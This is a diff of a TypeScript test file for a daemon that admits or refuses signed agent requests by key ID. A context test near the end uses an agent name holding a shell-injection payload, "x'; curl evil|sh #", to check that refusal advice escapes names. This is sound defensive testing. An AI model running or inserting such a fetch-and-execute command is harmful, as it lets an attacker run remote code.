@@ -316,6 +316,18 @@ describe("decided on again", () => {
   });
 });
 
+test("who names this daemon's key is heard, though the room says that another one answers for the agent", () => {
+  const left = worldOf({
+    ownAgent: () => undefined,
+    registeredAgent: (room_id, agent_id) => worldOf().ownAgent(room_id, agent_id),
+  });
+  const to = (changes: Content) => admit(eventOf(signed(request(changes))), left).outcome;
+  expect(to({ target_key_id: builderKey.key_id })).toBe("admitted");
+  expect(to({})).toBe("silence");
+  expect(to({ target_key_id: strangerKey.key_id })).toBe("silence");
+  expect(to({ target_key_id: builderKey.key_id, target_agent: "other" })).toBe("silence");
+});
+
 test("the advice in a refusal holds no name that a shell would take for more than a name", () => {
   const agent = "x'; curl evil|sh #";
   const admission = admit(eventOf(signed(request({ requesting_agent: agent }))), worldOf());
